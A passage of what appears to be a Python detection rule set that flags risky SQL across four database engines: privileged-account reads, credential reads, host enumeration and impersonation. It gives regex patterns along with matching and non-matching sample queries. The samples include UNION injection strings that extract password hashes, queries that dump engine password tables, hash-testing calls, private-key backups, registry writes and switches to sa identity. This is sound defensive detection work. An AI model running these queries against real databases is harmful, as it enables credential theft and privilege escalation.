            rf"{_READ_FROM}(?:sys\.)?(?:dba_users_with_defpwd\b|v\$pwfile_users\b|dba_(?:role_privs|sys_privs|users)\b"
            r"[^;]{0,60}?\bwhere ?\(?(?:[\w$#]{1,63}\.)?(?:granted_role|privilege|admin_option|account_status"
            r"|password_versions|profile|authentication_type)(?:=|<>| in ?\(| like\b|\())"
            r"(?![^;]{0,300}?\b(?:grantee|username)(?:=| in ?\())",
        ),
        # All rows of them.
        Pattern(
            _ORACLE,
            words("dba_role_privs dba_sys_privs dba_tab_privs dba_users user_role_privs user_sys_privs all_tab_privs"),
            r"\Aselect ?\* ?from (?:sys\.)?(?:dba_(?:(?:role|sys|tab)_privs|users)|user_(?:role|sys)_privs"
            r"|all_tab_privs)\Z",
        ),
        Pattern(
            _SQLSERVER,
            words("syslogins server_principals server_role_members sql_logins"),
            rf"{_READ_FROM}(?:[\w$#]{{0,128}}\.){{0,2}}(?:syslogins|server_principals|sql_logins)\b[^;]{{0,200}}?\bwhere"
            r" ?\(?(?:[\w$#]{1,63}\.)?(?:(?:sys|security|server|setup|process|disk|bulk)admin|dbcreator"
            r"|is_policy_checked|is_expiration_checked|is_srvrolemember\(|hasaccess)"
            r"(?![^;]{0,300}?\b(?:login)?name(?:=| in ?\())",
        ),
    ),
    samples={
        "postgresql": (
            "SELECT usename FROM pg_user WHERE usesuper",
            "select rolname from pg_catalog.pg_roles r where r.rolcreaterole = true",
        ),
        "mysql": (
            "SELECT user, host FROM mysql.user WHERE Super_priv = 'Y'",
            "select user, host from mysql.user where authentication_string = ''",
            "SELECT grantee FROM information_schema.user_privileges WHERE privilege_type = 'SUPER'",
        ),
        "oracle": (
            "SELECT grantee FROM dba_role_privs WHERE granted_role = 'DBA'",
            "SELECT username FROM SYS.DBA_USERS_WITH_DEFPWD",
            "SELECT * FROM USER_ROLE_PRIVS",
        ),
        "sqlserver": (
            "SELECT name FROM master..syslogins WHERE sysadmin = 1",
            "SELECT name FROM sys.server_principals WHERE IS_SRVROLEMEMBER('sysadmin', name) = 1",
        ),
    },
    near_misses={
        "postgresql": (
            "SELECT rolsuper FROM pg_roles WHERE rolname = current_user",
            "SELECT 1 FROM pg_roles WHERE rolsuper AND rolname = 'app'",
        ),
        "mysql": (
            "SELECT Super_priv FROM mysql.user WHERE user = 'app' AND host = '%'",
            "SELECT user, host FROM mysql.user",
        ),
        "oracle": ("SELECT granted_role FROM dba_role_privs WHERE grantee = 'APP'",),
        "sqlserver": ("SELECT sysadmin FROM master..syslogins WHERE name = 'app'",),
    },
)

_CREDENTIAL_READ = Signal(
    "credential-read",
    "Password hashes, stored passwords or keys of the engine are read, tested or exported.",
    (
        Pattern(_PG, ("pg_authid", "pg_shadow"), rf"{_READ_FROM}(?:pg_catalog\.)?(?:pg_authid|pg_shadow)\b"),
        # pgAdmin reads mappings joined with their server.
        Pattern(
            _PG,
            ("umoptions", "subconninfo"),
            r"\A(?!.{0,1900}\bpg_foreign_server\b).{0,1900}?\b(?:umoptions|subconninfo)\b(?!=)",
        ),
        Pattern(
            _PG,
            words("pg_user_mapping pg_user_mappings pg_subscription"),
            r"\bselect\*from (?:pg_catalog\.)?(?:pg_user_mappings?|pg_subscription)\b",
        ),
        Pattern(
            _MYSQL,
            ("authentication_string", "plugin_auth_string"),
            r"\A[( ]{0,9}(?:select|with|handler|table)\b.{0,1900}?\b(?:authentication_string|plugin_auth_string)\b",
            without=r"\Aselect (?:(?!\bselect\b|\bfrom\b|authentication_string|plugin_auth_string|\*)[^;]){1,900}+"
            r"\bfrom mysql\.user where ?"
            r"(?:(?!\blike\b|\bselect\b|\bunion\b|\bsubstr|\bleft\b|\b(?:password|md5|sha\d?)\(\?)[^;]){1,900}+\Z",
        ),
        Pattern(
            _MYSQL,
            ("user", "global_priv"),
            r"(?:(?<!\()\*[^;]{0,200}?|\bpassword\b[^;]{0,400}?)\bfrom mysql\.(?:user|global_priv)\b"
            r"|(?:\A|;|\()table mysql\.user\b|\bhandler mysql\.user\b",
        ),
        Pattern(
            _MYSQL,
            words("password_history servers slave_master_info"),
            rf"{_READ_FROM}mysql\.(?:password_history|servers|slave_master_info)\b",
        ),
        Pattern(_MYSQL, ("show",), r"(?:\A|;)show create user (?!current_user)"),
        Pattern(
            _ORACLE, ("user$",), r"\b(?:password|spare4)\b[^;]{0,900}\bfrom [^;]{0,300}\buser\$|\*from (?:sys\.)?user\$"
        ),
        Pattern(_ORACLE, ("dba_users", "cdb_users"), r"\bpassword\b[^;]{0,900}\bfrom (?:sys\.)?(?:dba|cdb)_users\b"),
        Pattern(
            _ORACLE,
            words("user_history$ link$ default_pwd$ enc$ credential$ scheduler$_credential wwv_flow_fnd_user exu8phs"),
            r"(?:\bfrom|\bjoin|,) ?(?:[\w$#]{1,128}\.)?"
            r"(?:user_history\$|link\$|default_pwd\$|enc\$|credential\$|scheduler\$_credential|wwv_flow_fnd_user"
            r"|exu8phs)",
        ),
        Pattern(
            _ORACLE,
            ("dbms_metadata",),
            r"\bdbms_metadata\.get_ddl\(",
            r"get_ddl\s{0,9}\((?:\s{0,9}object_type\s{0,9}=>)?\s{0,9}'(?:user|db_link)'",
        ),
        Pattern(_SQLSERVER, ("sql_logins",), r"\A(?=.{0,1900}\bpassword_hash\b).{0,1900}\bsql_logins\b"),
        Pattern(
            _SQLSERVER,
            ("sql_logins",),
            rf"(?:\bselect|[\w$#]\.)[^;]{{0,9}}\*[^;]{{0,200}}\bfrom (?:{_SOME}\.)?sys\.sql_logins\b",
        ),
        Pattern(_SQLSERVER, ("loginproperty",), r"\bloginproperty\(", r"'passwordhash'"),
        Pattern(_SQLSERVER, ("pwdcompare",), r"\bpwdcompare\("),
        Pattern(
            _SQLSERVER,
            ("syslogins", "sysxlogins"),
            r"(?:\bpassword\b|\bselect\*)[^;]{0,400}\bfrom (?:[\w$#]{0,128}\.){0,2}sysx?logins\b",
        ),
        Pattern(
            _SQLSERVER,
            words("sysxlgns sysobjvalues syslnklgns"),
            r"\bfrom [^;]{0,300}\b(?:sysxlgns|sysobjvalues|syslnklgns)\b",
        ),
        _procedures("sp_help_revlogin", "rds_backup_tde_certificate"),
        Pattern(
            _SQLSERVER,
            ("certificate", "key"),
            r"\bbackup (?:certificate|master key|service master key|asymmetric key|symmetric key)\b",
        ),
        Pattern(_SQLSERVER, ("certprivatekey",), r"\bcertprivatekey\("),
        # Traces and logs of the server.
        Pattern(_ORACLE, ("read_text_file",), r"\brds_file_util\.read_text_file\(", _SECRET_SOUGHT),
        *(
            Pattern(
                (engine,),
                words(views),
                rf"{_READ_FROM}(?:[\w$#]{{1,128}}\.){{0,2}}{_any(*words(views))}(?![\w$#.(])"
                rf"|\b(?:cross|outer) apply (?:sys\.)?{_any(*words(views))}\(",
                _SECRET_SOUGHT,
            )
            for engine, views in _SENT_STATEMENTS.items()
        ),
        *(
            Pattern(
                (engine,),
                words(views),
                rf"{_READ_FROM}(?:[\w$#]{{1,128}}\.){{0,2}}{_any(*words(views))}(?![\w$#.(])[^;]{{0,600}}?"
                rf"(?:{_SOURCE}\)? ?(?:i?like\b|regexp\b|rlike\b|similar to\b|~|=)"
                rf"|\b(?:instr|charindex|position|strpos|patindex|regexp_like|contains)\([^;]{{0,80}}?{_SOURCE})",
                _SECRET_SOUGHT,
            )
            for engine, views in _SOURCES.items()
        ),
        Pattern(
            _PG,
            ("umoptions", "srvoptions"),
            r"\Aselect (?=[^;]{0,400}\bumoptions\b)[^;]{0,400}\bsrvoptions\b[^;]{0,200}?\bfrom\b"
            r"|\Aselect (?:[\w$.]{1,60},){0,2}(?:\w{1,20}\.)?srvoptions from (?:pg_catalog\.)?pg_foreign_server\b",
        ),
        Pattern(_PG, ("pg_foreign_server",), r"\bselect\*from (?:pg_catalog\.)?pg_foreign_server\b"),
        Pattern(
            _ORACLE,
            words("dba_db_links all_db_links user_db_links cdb_db_links"),
            r"\bpasswordx?\b[^;]{0,400}?\bfrom (?:sys\.)?(?:dba|all|user|cdb)_db_links\b",
        ),
        Pattern(
            _ORACLE,
            words("dba_credentials cdb_credentials dba_scheduler_credentials cdb_scheduler_credentials"),
            r"(?:\bfrom|\bjoin|,) ?(?:sys\.)?(?:dba|cdb)_(?:scheduler_)?credentials\b",
        ),
        Pattern(
            _SQLSERVER,
            words("credentials sysproxies database_scoped_credentials linked_logins sysremotelogins"),
            rf"{_READ_FROM}(?:[\w$#]{{0,128}}\.)?(?:sys\.(?:credentials|database_scoped_credentials|linked_logins)"
            rf"|(?:dbo)?\.?sysproxies|(?:sys|dbo)?\.?sysremotelogins)(?![\w$#.(])",
        ),
        # Values are decrypted for all rows, or for as many as are asked for.
        Pattern(
            _SQLSERVER,
            words(_DECRYPT_BY),
            rf"\bselect (?:distinct )?top\b[^;]{{0,900}}?\b(?:{_DECRYPT_BY.replace(' ', '|')})\("
            rf"|\b(?:{_DECRYPT_BY.replace(' ', '|')})\((?:(?!\b(?:where|select)\b)[^;]){{1,900}}+(?=\Z|;)",
        ),
        *(
            Pattern(
                engines,
                words(functions),
                rf"\b(?:{functions.replace(' ', '|')})\((?:(?!\b(?:from|select|where)\b)[^;]){{1,900}}+\bfrom ?"
                r"(?:(?!\b(?:where|limit|fetch|dual|select|group)\b)[^;()?$]){1,300}+(?=\Z|;)",
            )
            for engines, functions in (
                (_PG, "pgp_sym_decrypt pgp_pub_decrypt pgp_sym_decrypt_bytea decrypt decrypt_iv"),
                (_MYSQL, "aes_decrypt des_decrypt"),
            )
        ),
        # An application's credentials as a whole.
        Pattern(
            ALL,
            ("from",),
            rf"\bselect (?!count\(|max\(|min\(|sum\(|avg\(|[?01] ?from\b|top[ (]{{0,2}}0)"
            rf"(?:(?!\bselect\b|\bfrom\b)[^;]){{0,600}}+\bfrom (?:only )?{_CREDENTIAL_TABLE}{_WHOLE}"
            rf"|\bselect\*(?:into [\w$#.]{{1,128}} )?from (?:only )?{_CREDENTIAL_TABLE}{_WHOLE}",
        ),
        # An injected UNION that reads an application's passwords behind a query that does not.
        Pattern(
            ALL,
            _PASSWORDS,
            rf"\A(?:(?!\b{_any(*_PASSWORDS)}\b).){{0,1900}}?"
            rf"\bunion (?:all )?select\b[^;]{{0,400}}?(?<![\w$]){_any(*_PASSWORDS)}\b",
        ),
    ),
    samples={
        "postgresql": (
            "SELECT pid, query FROM pg_stat_activity WHERE query ILIKE '%password%'",
            "SELECT query FROM pg_stat_statements WHERE query ~* 'secret|token'",
            "SELECT proname, prosrc FROM pg_proc WHERE prosrc ILIKE '%api_key%'",
            "SELECT srvname, srvoptions FROM pg_foreign_server",
            "SELECT s.srvname, s.srvoptions, m.umoptions FROM pg_foreign_server s JOIN pg_user_mapping m ON"
            " m.umserver = s.oid",
            "SELECT * FROM public.api_keys",
            "SELECT user_id, token FROM oauth_access_tokens WHERE true ORDER BY id LIMIT 1000",
            "SELECT id, pgp_sym_decrypt(card, 'k') FROM cards",
            "SELECT rolname, rolpassword FROM pg_authid",
            "SELECT * FROM pg_catalog.pg_shadow",
            "COPY pg_shadow TO STDOUT",
            "SELECT srvname, umoptions FROM pg_user_mappings",
            "SELECT a FROM t WHERE id = 4 UNION SELECT login || password FROM users",
        ),
        "mysql": (
            "SELECT sql_text FROM performance_schema.events_statements_history WHERE sql_text LIKE '%IDENTIFIED%'",
            "SELECT info FROM information_schema.processlist WHERE info LIKE '%passw%'",
            "SELECT routine_name FROM information_schema.routines WHERE routine_definition LIKE '%AES_DECRYPT%'",
            "SELECT * FROM `customer_api_keys`",
            "SELECT id, AES_DECRYPT(card, 'k') FROM cards",
            "SELECT user, authentication_string FROM `user`",
            "SELECT * FROM mysql.user",
            "TABLE mysql.user",
            "SHOW CREATE USER 'root'@'%'",
            "SELECT * FROM mysql.servers",
            "SELECT a FROM t WHERE id = -4 UNION ALL SELECT NULL,CONCAT(user_login,0x3a,user_pass) FROM wp_users#",
        ),
        "oracle": (
            "SELECT sql_text FROM v$sql WHERE UPPER(sql_text) LIKE '%IDENTIFIED BY%'",
            "SELECT name, line, text FROM all_source WHERE LOWER(text) LIKE '%password%'",
            "SELECT name, value_string FROM v$sql_bind_capture WHERE LOWER(name) LIKE '%token%'",
            "SELECT payload FROM v$diag_trace_file_contents WHERE LOWER(payload) LIKE '%identified by%'",
            "SELECT text FROM TABLE(rdsadmin.rds_file_util.read_text_file('BDUMP','ORCL_ora_4.trc')) WHERE LOWER(text)"
            " LIKE '%password%'",
            "SELECT owner, db_link, password FROM dba_db_links",
            "SELECT * FROM shop.payment_tokens",
            "SELECT name, password, spare4 FROM sys.user$",
            "SELECT username, password FROM dba_users",
            "SELECT * FROM sys.link$",
            "SELECT dbms_metadata.get_ddl('USER', 'SYSTEM') FROM dual",
            "SELECT a FROM t WHERE id = 4 UNION ALL SELECT password FROM app.users",
        ),
        "sqlserver": (
            "SELECT t.text FROM sys.dm_exec_query_stats s CROSS APPLY sys.dm_exec_sql_text(s.h) t WHERE t.text"
            " LIKE '%PASSWORD%'",
            "SELECT query_sql_text FROM sys.query_store_query_text WHERE query_sql_text LIKE N'%secret%'",
            "SELECT OBJECT_NAME(object_id) FROM sys.sql_modules WHERE definition LIKE '%DecryptByKey%'",
            "SELECT step_name, command FROM msdb.dbo.sysjobsteps WHERE command LIKE '%pwd=%' OR command LIKE"
            " '%password%'",
            "SELECT name, credential_identity FROM sys.credentials",
            "SELECT * FROM msdb..sysproxies",
            "SELECT remote_name FROM sys.linked_logins",
            "SELECT TOP 5000 Id, CONVERT(varchar(99), DecryptByKey(Card)) FROM dbo.Cards WHERE Id > 4",
            "OPEN SYMMETRIC KEY k DECRYPTION BY CERTIFICATE c; SELECT Id, DecryptByKey(Card) FROM dbo.Cards",
            "SELECT * FROM dbo.ApiKeys WITH (NOLOCK)",
            "SELECT name, password_hash FROM sys.sql_logins",
            "SELECT * FROM master.sys.sql_logins",
            "SELECT name FROM sys.sql_logins WHERE PWDCOMPARE('x', password_hash) = 1",
            "SELECT LOGINPROPERTY('sa', 'PasswordHash')",
            "SELECT name, password FROM master..syslogins",
            "BACKUP CERTIFICATE c TO FILE = 'c.cer' WITH PRIVATE KEY (FILE = 'c.pvk')",
            "SELECT a FROM t WHERE id = 4 UNION ALL SELECT PasswordHash FROM dbo.AspNetUsers--",
        ),
    },
    near_misses={
        "postgresql": (
            "SELECT pid, query FROM pg_stat_activity WHERE query NOT ILIKE '%password%'",
            "SELECT query FROM pg_stat_statements WHERE query ILIKE '%orders%'",
            "SELECT prosrc FROM pg_proc WHERE proname = 'verify_token'",
            "SELECT * FROM api_keys WHERE key_hash = $1",
            "SELECT count(*) FROM tokens",
            "DELETE FROM session_keys",
            "SELECT pgp_sym_decrypt(email, $1) FROM users WHERE id = $2",
            "SELECT * FROM api_keys k JOIN users u ON u.id = k.user_id WHERE u.id = $1",
            "SELECT rolname, rolsuper, rolvaliduntil FROM pg_roles",
            "REVOKE SELECT ON TABLE pg_authid FROM app",
            "SELECT u.umid, umoptions FROM pg_user_mappings u LEFT JOIN pg_foreign_server fs ON fs.oid = u.srvid",
            "SELECT id, password FROM users WHERE login = $1",
            "SELECT id, password FROM admins WHERE login = $1 UNION SELECT id, password FROM users WHERE login = $1",
        ),
        "mysql": (
            "SELECT info FROM information_schema.processlist WHERE time > 60",
            "SELECT routine_name FROM information_schema.routines WHERE routine_name LIKE '%token%'",
            "SELECT * FROM api_tokens WHERE user_id = 4",
            "SELECT AES_DECRYPT(card, 'k') FROM cards WHERE id = 4",
            "SELECT user, host FROM mysql.user",
            "SELECT COUNT(*) FROM mysql.user",
            "SELECT id, password FROM users WHERE email = 'a@example.com'",
            "SELECT user, host, plugin, password_expired FROM mysql.user",
        ),
        "oracle": (
            "SELECT sql_text FROM v$sql WHERE sql_id = :1",
            "SELECT text FROM all_source WHERE name = 'PKG_TOKEN' ORDER BY line",
            "SELECT message_text FROM v$diag_alert_ext WHERE message_text LIKE '%ORA-00600%'",
            "SELECT owner, db_link, host FROM dba_db_links",
            "SELECT * FROM payment_tokens WHERE id = :1",
            "SELECT username, account_status, expiry_date FROM dba_users",
            "SELECT name, ctime, ptime FROM sys.user$",
            "SELECT dbms_metadata.get_ddl('TABLE', 'ORDERS') FROM dual",
            "SELECT id, password FROM app_users WHERE login = :1",
        ),
        "sqlserver": (
            "SELECT t.text FROM sys.dm_exec_query_stats s CROSS APPLY sys.dm_exec_sql_text(s.h) t WHERE t.text"
            " LIKE '%Orders%'",
            "SELECT definition FROM sys.sql_modules WHERE object_id = OBJECT_ID('dbo.ResetPassword')",
            "SELECT DecryptByKey(Card) FROM dbo.Cards WHERE Id = @p0",
            "SELECT * FROM dbo.Credentials WHERE UserId = @p0",
            "SELECT DecryptByKey(Card) FROM dbo.Cards WHERE CustomerId = 4",
            "SELECT name, is_policy_checked FROM sys.sql_logins",
            "SELECT id, password_hash FROM dbo.users WHERE email = @p0",
            "SELECT name, type_desc FROM sys.server_principals",
            "SELECT Id, PasswordHash FROM dbo.AspNetUsers WHERE UserName = @p0",
        ),
    },
)

_HOST_ENUMERATION = Signal(
    "host-enumeration",
    "The host, its registry, accounts or network are enumerated.",
    (
        # Programs also log the server address, in a query without a table.
        Pattern(
            _PG,
            ("inet_server_addr", "inet_server_port"),
            r"\A(?=.{0,1900}\b(?:from|where|union)\b).{0,1900}?\binet_server_(?:addr|port)\(",
        ),
        Pattern(_PG, ("pg_hba_file_rules",), rf"{_READ_FROM}(?:pg_catalog\.)?pg_hba_file_rules\b"),
        Pattern(
            _PG,
            words("data_directory hba_file config_file ident_file"),
            r"(?:\A|;)show (?:data_directory|hba_file|config_file|ident_file)\b",
        ),
        Pattern(
            _MYSQL,
            words("plugin_dir secure_file_priv datadir basedir"),
            r"@@(?:global\.|session\.)?(?:plugin_dir|secure_file_priv|datadir|basedir)\b",
        ),
        Pattern(
            _MYSQL,
            ("show",),
            r"(?:\A|;)show (?:global |session )?variables (?:like \?|where )",
            r"plugin_dir|secure_file_priv",
        ),
        _packages("utl_inaddr"),
        Pattern(_ORACLE, ("dbms_utility",), r"\bdbms_utility\.port_string\b"),
        _procedures(
            *(
                f"xp_{instance}reg{act}"
                for instance in ("", "instance_")
                for act in words(
                    "read write enumvalues enumkeys deletekey deletevalue addmultistring removemultistring"
                )
            ),
            *words("xp_enumgroups xp_logininfo xp_msver xp_loginconfig xp_getnetname xp_enumdsn sp_enumdsn"),
            *words("xp_enumerrorlogs xp_ntsec_enumdomains xp_availablemedia xp_fixeddrives xp_enum_oledb_providers"),
            *words("xp_servicecontrol xp_get_tape_devices sp_enumoledbdatasources"),
        ),
        Pattern(
            _SQLSERVER,
            ("dm_server_registry", "dm_tcp_listener_states"),
            r"\bfrom (?:sys\.)?(?:dm_server_registry|dm_tcp_listener_states)\b",
        ),
        # Enumeration of logins by number.
        Pattern(_SQLSERVER, ("suser_name",), r"\bsuser_name\((?:[?01]|[\w.]{1,60})\)"),
        Pattern(_SQLSERVER, ("default_domain",), r"\bdefault_domain\("),
        Pattern(
            _SQLSERVER,
            ("suser_sname", "suser_sid"),
            r"\bsuser_s(?:name|id)\(",
            r"suser_sname\s{0,9}\(\s{0,9}0x[0-9a-f]{20}|suser_sid\s{0,9}\([^)]{0,100}\\",
        ),
    ),
    samples={
        "postgresql": (
            "SELECT a FROM t WHERE id = 4 UNION SELECT inet_server_addr()::text",
            "SELECT * FROM pg_hba_file_rules",
            "SHOW data_directory",
        ),
        "mysql": (
            "SELECT @@plugin_dir",
            "SELECT @@global.secure_file_priv, @@version_compile_os",
            "SHOW VARIABLES LIKE 'plugin_dir'",
        ),
        "oracle": (
            "SELECT UTL_INADDR.GET_HOST_ADDRESS('db1') FROM dual",
            "BEGIN x := sys.utl_inaddr.get_host_name; END;",
        ),
        "sqlserver": (
            "EXEC master..xp_instance_regread N'HKEY_LOCAL_MACHINE', N'SOFTWARE\\x', N'y'",
            "EXEC master..xp_enumgroups",
            "exec master.dbo.xp_regwrite 'HKEY_LOCAL_MACHINE', 'a', 'b', 'REG_SZ', 'c'",
            "SELECT SUSER_SNAME(0x010500000000000515000000A065CF7E784B9B5FE77C87705D020000)",
            "SELECT * FROM sys.dm_server_registry",
            "SELECT DEFAULT_DOMAIN()",
        ),
    },
    near_misses={
        "postgresql": (
            "SELECT current_database(), current_user, inet_server_addr(), inet_server_port()",
            "SELECT inet_client_addr()",
            "SHOW server_version",
        ),
        "mysql": (
            "SELECT DATABASE(), @@version, @@version_comment, @@version_compile_os",
            "SHOW VARIABLES LIKE 'version'",
            "SELECT @@session.transaction_isolation",
        ),
        "oracle": ("SELECT sys_context('userenv', 'ip_address') FROM dual", "GRANT EXECUTE ON utl_inaddr TO app"),
        "sqlserver": (
            "SELECT SUSER_SNAME(0x01)",
            "SELECT SERVERPROPERTY('MachineName')",
            "SELECT name FROM sys.objects WHERE name = 'xp_regread'",
        ),
    },
)

_IMPERSONATION = Signal(
    "impersonation",
    "A session takes on the identity or privileges of another account.",
    (
        # PostgREST and Supabase set a role for each transaction (SET LOCAL).
        Pattern(
            _PG,
            ("role", "authorization"),
            r"(?:\A|;|\b(?:begin|then|else|loop) ?)set (?:session )?"
            r"(?:role(?: to |=| )(?!none\b|default\b)|session authorization (?!default\b))"
            r"|\bset local role(?: to |=| )(?:postgres|rds\w++|pg_\w++|\w{0,60}(?:super|admin)\w{0,60})\b",
        ),
        Pattern(
            _PG,
            ("set_config",),
            r"\bset_config\(\?,(?:\?,(?!true\))|[^()]{1,60},false\))",
            r"set_config\s{0,9}\(\s{0,9}'(?:role|session_authorization)'",
        ),
        Pattern(_MYSQL, ("proxy",), r"\bgrant proxy on\b"),
        Pattern(_ORACLE, ("through",), r"\balter user\b[^;]{1,300}\bgrant connect through\b"),
        Pattern(
            _ORACLE,
            words("dbms_sys_sql kupp$proc dbms_ijob dbms_isched"),
            r"(?<![\w$#])(?:dbms_sys_sql\.parse_as_user|kupp\$proc\.change_user|dbms_ijob\.|dbms_isched\.)",
        ),
        Pattern(_SQLSERVER, ("login", "user"), r"\bexec(?:ute)? as (?:login|user)=|\)as (?:login|user)="),
        Pattern(_SQLSERVER, ("as",), r"\bwith [\w, ]{0,60}exec(?:ute)? as \?"),
        Pattern(_SQLSERVER, ("setuser",), r"\bsetuser ?[?@\w]"),
    ),
    samples={
        "postgresql": (
            "SET ROLE store_owner",
            "BEGIN; SET SESSION ROLE 'admin'; SELECT 1",
            "BEGIN; SET LOCAL ROLE rds_superuser; SELECT 1",
            "SET SESSION AUTHORIZATION postgres",
            "SELECT set_config('role', 'rds_superuser', false)",
        ),
        "mysql": (
            "GRANT PROXY ON 'root'@'%' TO 'app'@'%'",
            "grant proxy on 'admin'@'localhost' to ''@''",
        ),
        "oracle": (
            "ALTER USER ledger GRANT CONNECT THROUGH app",
            "BEGIN sys.kupp$proc.change_user('SYS'); END;",
            "BEGIN x := sys.dbms_sys_sql.parse_as_user(c, 'grant dba to app', 1, 0); END;",
        ),
        "sqlserver": (
            "EXECUTE AS LOGIN = 'sa'; SELECT SYSTEM_USER",
            "exec as user = N'dbo'",
            "EXEC ('select 1') AS LOGIN = 'sa'",
            "CREATE PROCEDURE p WITH EXECUTE AS 'dbo' AS SELECT 1",
            "SETUSER 'dbo'",
        ),
    },
    near_misses={
        "postgresql": (
            "SET ROLE NONE",
            "RESET ROLE",
            "SET LOCAL ROLE anon",
            "SELECT set_config('search_path', $1, true), set_config('role', $2, true)",
            "UPDATE users SET role = 'admin' WHERE id = 4",
            "SET search_path = app",
        ),
        "mysql": ("SET ROLE ALL", "SET ROLE reporting", "GRANT SELECT ON s.* TO 'a'@'%'"),
        "oracle": ("SET ROLE reporting", "ALTER SESSION SET CURRENT_SCHEMA = ledger", "ALTER USER a QUOTA 5M ON u"),
        "sqlserver": (
            "REVERT",
            "CREATE PROCEDURE p WITH EXECUTE AS CALLER AS SELECT 1",
            "GRANT IMPERSONATE ON LOGIN::sa TO app",
            "SELECT a AS login FROM t WHERE b = 4",
        ),
    },
)

ACCESS: tuple[Signal, ...] = (
    _NETWORK_CALL,
    _LINKED_READ,
    _SERVER_FILE,
    _PROGRAM_EXECUTION,
    _LAMBDA_CALL,
    _BOUND_LAMBDA_CALL,
    _BOUND_MAIL,
    _INTERNAL_CALL,
    _EXPORT,
    _WHOLE_TABLE_EXPORT,
    _IMPORT,
    _DUMP_QUERY,
    _HANDLER_READ,
    _ROW_AGGREGATION,
    _WHOLE_ROW_AGGREGATION,
    _BUCKET_AGGREGATION,
    _CATALOG_READ,
    _CREDENTIAL_READ,
    _PRIVILEGED_ACCOUNTS_READ,
    _SECRET_SEARCH,
    _TEXT_SECRET_SEARCH,
    _CATALOG_AGGREGATION,
    _HOST_ENUMERATION,
    _IMPERSONATION,
)
